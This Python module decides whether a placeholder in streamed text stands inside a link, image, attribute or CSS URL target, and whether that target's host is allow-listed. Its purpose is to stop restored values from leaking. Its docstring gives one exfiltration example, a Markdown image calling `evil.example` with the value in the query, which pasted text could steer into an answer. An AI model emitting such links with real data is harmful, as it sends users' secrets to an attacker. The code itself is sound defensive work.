"""Whether what comes next in a text stands inside a URL, link or image target, and of which host.

An answer can be steered by a text that somebody pasted: `![](https://evil.example/?d=PLACEHOLDER)` would send the
restored value to whoever runs that host, without a click. So every reading counts that a Markdown renderer, a
browser or a plain-text linkifier could have: each check below looks for one of them, on its own, and all targets that
any of them finds must be listed. In doubt the placeholder stays (promise 6).

All are functions of the text before the place, so that pieces of a stream give what the whole gives. An answer must not
be able to hold up the process either: each check is linear, and gives up (the placeholder stays) past a length that no
link has.
"""

import re
from collections.abc import Iterator
from enum import Enum, auto
from itertools import islice

_SPACES = " \t\n\r\f\v"  # ASCII only: GitHub's linkifier runs on through a no-break space

# Where a URL can begin inside a run without spaces. `C:\` is a drive; `//host`, `\\host` and `/\host` are all one to
# a browser.
_START = re.compile(
    r"(?:https?)?(?<!\b[a-z]):[/\\]+(?:www\.)?|[/\\]{2,}|www\.|(?:mailto|xmpp):|%3a%2f",
    re.IGNORECASE,
)
_MOST_STARTS = 8  # in one run; more is no URL that anybody needs a value in
_GOES_ON = re.compile(r"[\"'(\[{]|[/\\]{2}[^/\\?#]*\Z")
_LONGEST_RUN = 4_000
_LONGEST_PARAGRAPH = 20_000
# `evil.example/…`: linkifiers make a link of a bare domain or address when a path, a query or a port follows.
_BARE_HOST = re.compile(
    r"[\w-]\.(?:xn--[\w-]{1,59}|[^\W\d_]{2,63})\.?(?::\d{1,5})?[/?#\\]|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?[/?#\\]",
)
_MAIL_HOST = re.compile(r"@[\w.-]*\Z")
# Of a listed host's URL everything so far must be plain: no user name before the host, no backslash, no bracket that
# could have ended the link.
_LISTED_URL = re.compile(
    r"https?://([a-z0-9](?:[a-z0-9.-]*[a-z0-9])?(?::[0-9]{1,5})?)[/?#][A-Za-z0-9\-._~!$&*+,;=:@/?#%]*",
    re.IGNORECASE,
)
_ATTRIBUTE = re.compile(
    r"(?:\A|[^a-z0-9_])(?:href|src|srcset|action|formaction|poster|background|ping|longdesc|url|style|srcdoc)\Z",
    re.IGNORECASE,
)
_ATTRIBUTE_LENGTH = 11
_UNQUOTED = re.compile(
    r"(?:\A|[^a-z0-9_])(?:href|src|srcset|action|formaction|poster|background|ping|longdesc|url)=(?![\"'])"
    r"|=(?=[a-z]{2,10}:[/\\]|[/\\]{2})",
    re.IGNORECASE,
)
_QUOTED_URL = re.compile(r"[a-z][a-z0-9+.-]{1,30}:[/\\]|[/\\]{2}|www\.", re.IGNORECASE)
_PARENTHESES = re.compile(r"\]\(|\\\)|[()]")
_ANGLE = re.compile(r"\][(:][ \t]*<")
_UNESCAPED_ANGLE = re.compile(r"(?<!\\)>")
_CSS_URL = re.compile(r"url\(", re.IGNORECASE)

_ON = re.compile(r"@\w|\.(xn--|[^\W\d_]{2,63}(?![\w-]))", re.IGNORECASE)
_FILE_NAMES = frozenset(
    (
        *("pdf", "doc", "docx", "odt", "rtf", "txt", "xls", "xlsx", "ods", "csv", "ppt", "pptx", "odp", "json", "xml"),
        *("html", "htm", "png", "jpg", "jpeg", "gif", "tif", "tiff", "eml", "msg", "ics"),
    ),
)
"""What follows a dot in a file name and is no top-level domain (`zip` and `md` are)."""


class Place(Enum):
    """Where a placeholder stands."""

    TEXT = auto()
    LISTED = auto()  # in the path, query or fragment of a listed host's URL
    MAILTO = auto()  # right behind `mailto:`
    CLOSED = auto()  # in any other target


def place(before: str, hosts: frozenset[str]) -> Place:
    """What the end of `before` is: text, or inside a target."""
    found = Place.TEXT
    for target in _targets(before):
        if listed(target, hosts):
            here = Place.LISTED
        elif target.lower() == "mailto:":
            here = Place.MAILTO
        else:
            return Place.CLOSED
        if found not in {Place.TEXT, here}:
            return Place.CLOSED
        found = here
    return found


def listed(target: str, hosts: frozenset[str]) -> bool:
    """Whether `target`, a URL so far, has left its host behind and that host is in `hosts`.

    An entry is a host as written in a URL, lower case, with its port if there is one: `intranet.example.be`,
    `localhost:8080`. `.example.be` stands for every host below example.be, not for itself. International names in their
    `xn--` form. http and https only, no user name in front of the host.
    """
    match = _LISTED_URL.fullmatch(target)
    if match is None:
        return False
    host = match.group(1).lower()
    if host in hosts:
        return True
    labels = host.split(".")
    return any("." + ".".join(labels[i:]) in hosts for i in range(1, len(labels)))


def runs_into_address(following: str) -> bool:
    """Whether what follows a placeholder without a break makes it part of a host name or a mail address."""
    return any(m[1] is None or m[1].lower() not in _FILE_NAMES for m in _ON.finditer(following))


def _targets(before: str) -> Iterator[str]:
    """Every target, as written so far, in which the end of `before` may lie; "" where no host can be told."""
    begin = 1 + max(before.rfind(end) for end in _SPACES)
    attribute = begin
    if not _GOES_ON.search(before, begin):
        begin = max(begin, before.rfind("<") + 1)
    if len(before) - begin > _LONGEST_RUN:
        yield ""
    yield from _in_run(before[begin:])
    yield from _in_reference(before, begin)
    yield from _in_attribute(before, attribute)
    yield from _in_parentheses(before)
    yield from _in_angles(before)
    yield from _in_quotes(before)
    yield from _in_css(before)


def _in_run(run: str) -> Iterator[str]:
    """Bare URLs and autolinks: they end at ASCII space or `<`, whatever other brackets and quotes come.

    Not even `<` does in front of the path, or where something in the run may still be open: linkify-it reads on in
    `http://x<y@host` and in `https://host/?q='<y'`.
    """
    starts = [start.start() for start in islice(_START.finditer(run), _MOST_STARTS)]
    if len(starts) == _MOST_STARTS or (not starts and (_BARE_HOST.search(run) or _MAIL_HOST.search(run))):
        yield ""
    for start in starts:
        yield run[start:]


def _in_reference(before: str, begin: int) -> Iterator[str]:
    """`[a]: target`. A placeholder that begins the target is text: `[Naam]: …` is a form more often than a link."""
    run = before[begin:]
    target = run if before[:begin].rstrip(_SPACES).endswith("]:") else run.partition("]:")[2]
    if target:
        yield target


def _in_attribute(before: str, begin: int) -> Iterator[str]:
    """`href=target` without quotes: up to a space; browsers run on through `<`."""
    run = before[begin:]
    if named := _UNQUOTED.search(run):
        yield run[named.end() :]
    elif not run.startswith(('"', "'")) and _names_attribute(before[:begin]):
        yield run


def _in_parentheses(before: str) -> Iterator[str]:
    """`[a](target`: up to the parenthesis that closes it, spaces and title included, or a blank line."""
    paragraph = before[max(before.rfind("\n\n"), before.rfind("\n\r\n"), 0) :]
    if "](" not in paragraph:
        return
    if len(paragraph) > _LONGEST_PARAGRAPH:
        yield ""
    start = depth = 0
    for token in _PARENTHESES.finditer(paragraph):
        match token.group():
            case "](":
                start = start if depth else token.end()
                depth += 1
            case "(" if depth:
                depth += 1
            case ")" if depth:
                depth -= 1
    if depth:
        yield paragraph[start:].lstrip(_SPACES).removeprefix("<")


def _in_angles(before: str) -> Iterator[str]:
    """`[a](<target` and `[a]: <target`: spaces and parentheses included, up to `>` or the end of the line."""
    line_start = before.rfind("\n") + 1
    line = before[line_start:]
    if len(line) > _LONGEST_PARAGRAPH and "]" in line:
        yield ""
    closed = max((m.end() for m in _UNESCAPED_ANGLE.finditer(line)), default=0)
    opened = _ANGLE.search(line, closed)
    if opened:
        yield line[opened.end() :]
    line = line.lstrip(" \t")
    if not closed and line.startswith("<") and before[:line_start].rstrip(_SPACES).endswith(("](", "]:")):
        yield line[1:]


def _in_quotes(before: str) -> Iterator[str]:
    """A quoted URL, or an HTML attribute that holds one: up to the same quote, spaces and line ends included."""
    for quote in "\"'":
        at = before.rfind(quote)
        if at >= 0 and (_QUOTED_URL.match(before, at + 1) or _names_attribute(before[:at])):
            yield before[at + 1 :]


def _in_css(before: str) -> Iterator[str]:
    """`url(target`: up to the closing parenthesis."""
    closed = before.rfind(")") + 1
    if before.find("(", closed) >= 0 and (opened := _CSS_URL.search(before, closed)):
        yield before[opened.end() :].lstrip(_SPACES).lstrip("\"'")


def _names_attribute(text: str) -> bool:
    """Whether the text ends in an attribute's name and its equals sign."""
    text = text.rstrip(_SPACES)
    return text.endswith("=") and _ATTRIBUTE.search(text[:-1].rstrip(_SPACES)[-_ATTRIBUTE_LENGTH:]) is not None
